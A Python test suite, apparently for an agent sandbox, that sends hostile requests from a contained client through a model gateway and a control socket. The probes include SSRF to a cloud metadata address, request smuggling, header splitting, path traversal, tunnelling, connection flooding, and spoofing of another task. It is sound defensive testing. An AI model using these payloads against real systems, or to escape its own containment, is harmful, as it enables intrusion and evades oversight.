"""The model gateway and the control socket, which face a hostile client: what reaches the other side of them?

Controls send the same through a plain pipe. What got through is what the provider, or the runner, has heard.
"""

from collections.abc import Sequence
from datetime import timedelta

from agentcontainer.domain.models.catalogue import Provider as Name
from agentcontainer.domain.tasks.model import Output, OutputPolicy
from agentcontainer.domain.tasks.outputs import Declared
from agentcontainer.gateway.app import Gateway, Route, provider_client
from agentcontainer.prove.attempt import Attempt, Group, Place
from agentcontainer.prove.bait import given
from agentcontainer.prove.payload import Payload, perl
from agentcontainer.prove.places import sandboxed
from agentcontainer.prove.scene import Scene
from agentcontainer.prove.servers import Provider, pipe
from agentcontainer.runner import workspace
from agentcontainer.runner.control import Control, Finish

MODEL = "the-model"
ANTHROPIC, OPENAI = "/anthropic/v1/messages", "/openai/v1/responses"
_ASK = "sub ask { my ($n) = @ARGV; %s } print unix($gateway, ask());"
_MESSAGES = '"messages":[{"role":"user","content":"Hello."}],"max_tokens":5'


async def open_gateway(
    scene: Scene, provider: Provider, name: Name = "anthropic", key: str = "sk-of-the-task"
) -> None:
    """The gateway of a task."""
    sockets = scene.stack.enter_context(workspace.socket_folder(scene.root))
    client = await scene.stack.enter_async_context(provider_client())
    route = Route(name, provider.url, frozenset({MODEL}), key)
    gateway = Gateway(route, sockets / "gateway.sock", lambda _: None, client)
    await gateway.start()
    scene.stack.push_async_callback(gateway.close)


def _through_gateway(name: Name) -> Place:
    async def place(scene: Scene, payload: Payload, arguments: Sequence[str]) -> str:
        provider = Provider()
        await provider.start(scene)
        await open_gateway(scene, provider, name)
        await sandboxed(scene, payload, arguments)
        return provider.heard.decode(errors="replace")

    return place


async def _through_pipe(scene: Scene, payload: Payload, arguments: Sequence[str]) -> str:
    provider = Provider()
    await provider.start(scene)
    await pipe(scene, scene.root / "sockets/gateway.sock", provider.port)
    await pipe(scene, scene.root / "sockets/control.sock", provider.port)
    await sandboxed(scene, payload, arguments)
    return provider.heard.decode(errors="replace")


async def _through_control(scene: Scene, payload: Payload, arguments: Sequence[str]) -> str:
    """What a runner would take for the agent's word."""
    taken: list[str] = []

    async def collect(cwd: str, declared: list[Declared]) -> list[Output]:
        taken.append(f"{cwd} {declared}")
        return []

    async def finish(asked: Finish) -> bool:
        taken.append(asked.message)
        return True

    async def no(*_: object) -> bool:
        return False

    async def no_link() -> None:
        return None

    control = Control(
        policy=OutputPolicy("any"), max_files=10, max_hibernation=timedelta(days=1), public_url="", collect=collect,
        on_finish=finish, on_refusal=lambda _: None, share=collect, refusal=lambda _: None, hibernate=no,
        wake_link=no_link,
    )  # fmt: skip
    sockets = scene.stack.enter_context(workspace.socket_folder(scene.root))
    await control.start(sockets / "control.sock")
    scene.stack.push_async_callback(control.close)
    await sandboxed(scene, payload, arguments)
    return "".join(taken)


_CONNECTIONS = 200
_FLOOD = f"""
my @open; for (1 .. {_CONNECTIONS}) {{
    socket(my $s, AF_UNIX, SOCK_STREAM, 0) or last; connect($s, sockaddr_un($gateway)) and push @open, $s;
}}
nap 1; my $left = grep {{ syswrite($_, "P") }} @open; nap 0.5; $left = grep {{ defined syswrite($_, "O") }} @open;
print $ARGV[0] if $left == {_CONNECTIONS};
"""


async def _gateway_of_one(scene: Scene, payload: Payload, arguments: Sequence[str]) -> str:
    provider = Provider()
    await provider.start(scene)
    await open_gateway(scene, provider)
    return await sandboxed(scene, payload, arguments)


async def _pipe_of_one(scene: Scene, payload: Payload, arguments: Sequence[str]) -> str:
    provider = Provider()
    await provider.start(scene)
    await pipe(scene, scene.root / "sockets/gateway.sock", provider.port)
    return await sandboxed(scene, payload, arguments)


def _asks(name: str, tries: str, script: str, provider: Name = "anthropic") -> Attempt:
    """The script returns the bytes to be sent; `$n` is the nonce."""
    attack = _through_gateway(provider)
    return Attempt(name, tries, perl(_ASK % script), given, attack, _through_pipe)


def _body(name: str, tries: str, fields: str, path: str = ANTHROPIC) -> Attempt:
    """A model request with these fields beside a good beginning."""
    provider: Name = "openai" if path == OPENAI else "anthropic"
    return _asks(name, tries, f'post(\'{path}\', qq({{"model":"{MODEL}",{fields}}}))', provider)


def _finish(name: str, tries: str, script: str) -> Attempt:
    text = f"sub ask {{ my ($n) = @ARGV; {script} }} print unix($control, ask());"
    return Attempt(name, tries, perl(text), given, _through_control, _through_pipe)


GATEWAY = Group(
    "gateway",
    (
        _asks(
            "another-model",
            "Asks a model that is not its task's.",
            f'post("{ANTHROPIC}", qq({{"model":"$n",{_MESSAGES}}}))',
        ),
        _body("twice-a-model", "Names a model twice, the second time another.", f'"model":"$n",{_MESSAGES}'),
        _body(
            "fallback",
            "Asks another model in case its own has no time.",
            f'"fallbacks":[{{"model":"$n"}}],{_MESSAGES}',
        ),
        _body(
            "hosted-tool",
            "Has the provider search the web for it.",
            f'"tools":[{{"type":"web_search","name":"$n"}}],{_MESSAGES}',
        ),
        _body(
            "fetch-image",
            "Has the provider fetch a URL for it, with what it wants to carry out.",
            '"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"http://x/$n"}}]}]',
        ),
        _body(
            "stored-item",
            "Reads another task's stored conversation at the provider.",
            '"input":"x","previous_response_id":"$n"',
            OPENAI,
        ),
        _body("unknown-field", "Uses a field that nobody has looked at.", f'"$n":1,{_MESSAGES}'),
        _asks(
            "another-provider",
            "Asks another provider.",
            f'post("{OPENAI}", qq({{"model":"{MODEL}","input":"$n"}}))',
        ),
        _asks(
            "another-path",
            "Asks the provider for something else than an answer.",
            'post("/anthropic/v1/files/$n", "{}")',
        ),
        _asks(
            "dots", "Climbs out of the path that is allowed.", f'post("{ANTHROPIC}/../../files/$n", "{{}}")'
        ),
        _asks(
            "query",
            "Adds a query to the path.",
            f'post("{ANTHROPIC}?$n=1", qq({{"model":"{MODEL}",{_MESSAGES}}}))',
        ),
        _asks(
            "header",
            "Sends a header of its own along.",
            f'post("{ANTHROPIC}", qq({{"model":"{MODEL}",{_MESSAGES}}}), "Anthropic-Organization: $n", "Cookie: $n")',
        ),
        _asks(
            "own-key",
            "Uses the task's models with a key of its own.",
            f'post("{ANTHROPIC}", qq({{"model":"{MODEL}",{_MESSAGES}}}), "x-api-key: $n")',
        ),
        _asks(
            "absolute", "Names another server in the request line.", 'post("http://169.254.169.254/$n", "{}")'
        ),
        _asks(
            "tunnel",
            "Asks for a tunnel to another server.",
            '"CONNECT $n.example:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"',
        ),
        _asks(
            "smuggled",
            "Hides a second request in the body of the first, by two lengths.",
            'my $inner = post("/v1/files/$n", ""); post("' + ANTHROPIC + '", "0\\r\\n\\r\\n$inner",'
            '"Content-Length: " . (5 + length $inner), "Transfer-Encoding: chunked")',
        ),
        _asks(
            "pipelined",
            "Sends a second request behind the first, which is refused.",
            'my $first = post("/x", "{}"); $first =~ s/Connection: close\\r\\n//;'
            '$first . post("/anthropic/v1/files/$n", "{}")',
        ),
        _asks(
            "split-header",
            "Breaks a header's value into a header of its own.",
            f'post("{ANTHROPIC}", qq({{"model":"{MODEL}",{_MESSAGES}}}), "anthropic-beta: x\\n$n: y")',
        ),
        _asks(
            "endless-body",
            "Sends a body that is larger than memory shall be.",
            'my $fill = "x" x (34 * 1048576);'
            f'post("{ANTHROPIC}", qq({{"model":"{MODEL}","system":"$fill$n",{_MESSAGES}}}))',
        ),
        Attempt(
            "connections",
            "Holds so many connections open that others get none.",
            perl(_FLOOD),
            given,
            _gateway_of_one,
            _pipe_of_one,
        ),
        _finish(
            "endless-finish",
            "Calls finish with a message that has no end.",
            'my $fill = "x" x 2000000; post("/finish", qq({"completion":"complete","message":"$fill$n","cwd":"/"}))',
        ),
        _finish(
            "odd-finish",
            "Calls finish with what is not its own to say.",
            'post("/finish", qq({"completion":"complete","message":"$n","cwd":"/","taskId":"tsk_other"}))',
        ),
        _finish(
            "deep-finish",
            "Calls finish with JSON so deep that a parser falls.",
            'my $deep = "[" x 100000; post("/finish", qq({"message":"$n","files":$deep))',
        ),
    ),
)
